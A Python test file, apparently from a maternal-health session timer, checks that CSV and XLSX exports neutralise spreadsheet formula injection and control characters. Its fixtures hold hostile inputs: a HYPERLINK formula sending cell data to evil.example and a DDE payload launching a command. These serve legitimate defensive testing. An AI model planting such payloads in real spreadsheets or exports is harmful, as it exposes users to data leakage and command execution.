"""Exports a spreadsheet opens safely (issue 10 item 9): no live formulas, no control
characters, numbers kept as numbers; the tables stream."""

import csv
import types
import zipfile
from datetime import UTC, datetime

import pytest

from oxytimer.domain.clock import FakeClock
from oxytimer.storage.exchange import export, safe_text, sessions_table
from oxytimer.storage.repository import Repository

NOW = datetime(2026, 3, 10, 2, 0, tzinfo=UTC)
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
REASON = "+cmd|' /C calc'!A0 \x07bell"


@pytest.fixture
def risky():
    repo = Repository.memory(FakeClock(NOW), operator="@admin")
    repo.ensure_sites([("AMP", "Puskesmas Ampenan")])
    mother = repo.add_mother(
        repo.site_id("AMP"),
        "MTR-001",
        name=NAME,
        delivery_date="2026-03-07",  # 3 days before her enrolment: delivery_day -3
    )
    session = repo.start_session(
        mother_id=mother,
        caregiver="midwife",
        planned_seconds=240,
        pre_total=2,
        pre_items=None,
        pre_category="kurang",
        min_total=0,
        max_total=8,
        protocol_version="1.0.0",
        instrument_version="1.0.0",
    )
    repo.update_session_progress(
        session,
        status="aborted",
        massage_seconds=60,
        paused_seconds=0,
        pause_count=0,
        abort_reason=REASON,
    )
    repo.withdraw(mother, "-2+3 \x1b[31m\tmenolak", NOW.date())
    return repo


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a\x00b\x1fc\x7f", "abc"),
        ("\x07=1", "'=1"),  # a control character hiding a formula
        ("-3", "-3"),  # a number, not a formula
        ("-6.263817e-01", "-6.263817e-01"),
        ("Ibu Rahma", "Ibu Rahma"),
        ("line\nbreak", "line\nbreak"),
    ],
)
def test_safe_text(text, expected):
    assert safe_text(text) == expected


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_identifying_csv_neutralises_formulas_and_keeps_numbers(risky, tmp_path):
    export(risky, tmp_path, "csv", identifying=True)
    (mother,) = read_csv(tmp_path / "mothers.csv")
    (session,) = read_csv(tmp_path / "sessions.csv")
    assert mother["name"] == "'" + NAME
    assert mother["status_reason"] == "'-2+3 [31m\tmenolak"
    assert mother["delivery_day"] == "-3"  # a number stays a number
    assert session["abort_reason"] == "'+cmd|' /C calc'!A0 bell"
    assert session["operator"] == "'@admin"
    raw = (tmp_path / "mothers.csv").read_text(encoding="utf-8")
    assert not any(ch in raw for ch in "\x07\x1b")


def test_xlsx_has_no_formula_and_no_control_character(risky, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    (path,) = export(risky, tmp_path, "xlsx", identifying=True)  # no IllegalCharacterError
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    mothers = {c.value: c for c in book["mothers"][1]}  # header cells by name
    values = {name: book["mothers"].cell(2, cell.column) for name, cell in mothers.items()}
    assert values["name"].value == NAME  # the text itself, stored as text
    assert values["name"].data_type == "s" and values["name"].quotePrefix
    assert values["delivery_day"].value == -3 and values["delivery_day"].data_type == "n"
    assert values["status_reason"].value == "-2+3 [31m\tmenolak"
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist())
    assert b"<f>" not in xml and b"\x07" not in xml


def test_sessions_table_streams(risky):
    """The rows are read as they are written: an iterator, not a list built first."""
    table = sessions_table(risky)
    assert isinstance(table.rows, types.GeneratorType)
    assert len(list(table.rows)) == 1
